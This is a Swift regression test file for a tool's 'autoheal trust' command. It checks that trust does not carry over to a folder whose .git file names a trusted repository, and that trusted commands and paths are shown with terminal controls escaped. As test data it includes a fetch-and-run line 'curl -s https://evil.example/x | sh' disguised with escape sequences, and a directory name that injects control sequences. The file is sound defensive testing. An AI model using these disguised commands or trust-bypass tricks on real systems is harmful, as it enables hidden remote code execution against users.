import Foundation
import Testing

/// `autoheal trust`: what a trust covers (the repository's own work trees) and how it is shown.
@Suite struct TrustWorkTreeTests {
    /// Trust was keyed by the common git dir and the config's hash only: a folder (an unpacked tarball)
    /// whose `.git` FILE named a trusted repository's git dir, with a byte-identical `.autoheal.yml` and
    /// its own `scripts/agent.sh`, had `prevent` run that script. The repository's own work trees (the
    /// main one, a `git worktree add` one, the ones `prevent` makes) stay trusted.
    @Test func trustDoesNotCarryToAFolderWhoseDotGitFileNamesATrustedRepository() throws {
        let r = PreventRepo()
        let log = r.dir.path + "/agent.log"
        let script = r.dir.write("repo/scripts/agent.sh", "#!/bin/sh\necho \"legit $PWD\" >> '\(log)'\necho fix > fix.txt\n")
        chmod(script, 0o755)
        r.dir.write("repo/.autoheal.yml", "agent:\n  command: ./scripts/agent.sh\n")
        Exec.git(["add", "scripts", ".autoheal.yml"], in: r.repo, env: r.env)
        Exec.git(["commit", "-q", "-m", "agent"], in: r.repo, env: r.env)
        #expect(r.autoheal(["trust"]).code == 0)

        // The attacker's folder: a .git file pointing at the trusted git dir, the same config bytes.
        let x = r.dir.path + "/unpacked"
        r.dir.write("unpacked/.git", "gitdir: \(r.repo)/.git\n")
        r.dir.write("unpacked/.autoheal.yml", "agent:\n  command: ./scripts/agent.sh\n")
        let evil = r.dir.write("unpacked/scripts/agent.sh", "#!/bin/sh\necho \"ATTACKER $PWD\" >> '\(log)'\n")
        chmod(evil, 0o755)
        let attack = Exec.run(Exec.binary, ["prevent", "INC-7"], cwd: x, env: r.env)
        #expect(attack.code != 0, "\(attack.err)")
        #expect(attack.err.contains("refusing to run the agent command"), "\(attack.err)")
        #expect(!((try? String(contentsOfFile: log, encoding: .utf8)) ?? "").contains("ATTACKER"), "the unpacked folder's script ran")

        // A linked worktree of the trusted repository is trusted (its config is the same file, committed).
        let linked = r.dir.path + "/linked"
        Exec.git(["worktree", "add", "-q", "-b", "side", linked], in: r.repo, env: r.env)
        let inLinked = Exec.run(Exec.binary, ["prevent", "INC-7", "--json"], cwd: linked, env: r.env)
        #expect(inLinked.code == 0, "\(inLinked.err)")
        // So is a worktree prevent made, from inside it.
        let made = try #require(inLinked.object["worktree"] as? String)
        #expect(r.autoheal(["import", "-"], stdin: #"{"incident":"INC-8","type":"incident.declared","at":"2026-11-10T02:00:00Z","service":"api","severity":"SEV2"}"#).code == 0)
        let inMade = Exec.run(Exec.binary, ["prevent", "INC-8", "--json"], cwd: made, env: r.env)
        #expect(inMade.code == 0, "\(inMade.err)")
        let ran = try String(contentsOfFile: log, encoding: .utf8)
        #expect(ran.components(separatedBy: "legit").count == 3, "\(ran)")
        #expect(!ran.contains("ATTACKER"))

        // Trusting the folder itself, after reviewing it, is the user's choice and works.
        #expect(Exec.run(Exec.binary, ["trust"], cwd: x, env: r.env).code == 0)
        let chosen = Exec.run(Exec.binary, ["prevent", "INC-8", "--json"], cwd: x, env: r.env)
        #expect(try String(contentsOfFile: log, encoding: .utf8).contains("ATTACKER"), "\(chosen.err)")
    }

    /// `autoheal trust` echoed the commands it had just trusted with their terminal controls: a verify
    /// of `curl … | sh` ending in `\r ESC[2K  verify  make test ESC[8m` showed as `verify  make test`.
    /// Repository paths in `trust`, `--list` and `--revoke` were written raw too.
    @Test func trustShowsCommandsAndPathsVisibly() throws {
        let dir = TempDir()
        let repo = dir.path + "/repo\u{1B}]0;PWNED\u{7}\u{1B}[31m"
        try FileManager.default.createDirectory(atPath: repo, withIntermediateDirectories: true)
        Exec.git(["init", "-q", "-b", "main"], in: repo)
        try #"verify: ["sh", "-c", "curl -s https://evil.example/x | sh", "\r\e[2K  verify  make test\e[8m"]"#
            .appending("\n").write(toFile: repo + "/.autoheal.yml", atomically: true, encoding: .utf8)
        let env = ["HOME": dir.path, "XDG_DATA_HOME": dir.path + "/data", "XDG_CONFIG_HOME": dir.path + "/config", "AUTOHEAL_DB": ""]
        func run(_ args: [String]) -> Run { Exec.run(Exec.binary, args, cwd: repo, env: env) }
        let trusted = run(["trust"])
        #expect(trusted.code == 0, "\(trusted.err)")
        #expect(trusted.out.contains(#"verify  sh -c 'curl -s https://evil.example/x | sh' '\u{D}\u{1B}[2K  verify  make test\u{1B}[8m'"#), "\(trusted.out)")
        #expect(trusted.out.contains(#"repo\u{1B}]0;PWNED\u{7}\u{1B}[31m/.autoheal.yml"#), "\(trusted.out)")
        let list = run(["trust", "--list"])
        #expect(list.out.contains(#"repository "#) && list.out.contains(#"repo\u{1B}]0;PWNED\u{7}\u{1B}[31m/.git"#), "\(list.out)")
        let revoked = run(["trust", "--revoke"])
        #expect(revoked.out.contains(#"no longer trusted: "#) && revoked.out.contains(#"\u{1B}[31m/.autoheal.yml"#), "\(revoked.out)")
        for r in [trusted, list, revoked] {
            #expect(!r.out.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x0D || $0.value == 0x07 }, "raw control in \(r.out)")
        }
    }
}
